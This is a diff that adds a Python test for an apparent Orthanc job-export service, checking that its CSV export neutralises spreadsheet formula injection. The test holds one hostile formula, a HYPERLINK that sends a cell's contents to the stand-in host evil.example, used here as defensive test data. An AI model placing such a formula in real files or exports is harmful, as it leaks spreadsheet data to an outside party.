@@ -93,3 +93,15 @@ async def test_an_export_asked_wrong_is_a_bad_request(service: httpx.AsyncClient
     assert answer.status_code == 400 and "format: 'xlsx' is not one of csv, json" in answer.json()["Message"]
     assert (await service.get("/orthanc-jobs/export?created-since=soon", headers=public())).status_code == 400
     assert (await service.get("/orthanc-jobs/export")).status_code == 401
+
+
+async def test_the_csv_export_keeps_formulas_out_of_spreadsheets(
+    service: httpx.AsyncClient, orthanc: FakeOrthanc
+) -> None:
+    job_id = orthanc.add_job(URL1, "Failure", "20261128T100000.000000")
+    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    orthanc.jobs[URL1][job_id].update({"ErrorCode": -1, "Content": {"Description": hyperlink}})
+    assert (await service.get(f"/jobs/{job_id}", headers=public())).status_code == 200
+    answer = await service.get("/orthanc-jobs/export?format=csv", headers=public())
+    [row] = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8"), newline="")))
+    assert (row["Description"], row["ErrorCode"]) == (f"'{hyperlink}", "-1")
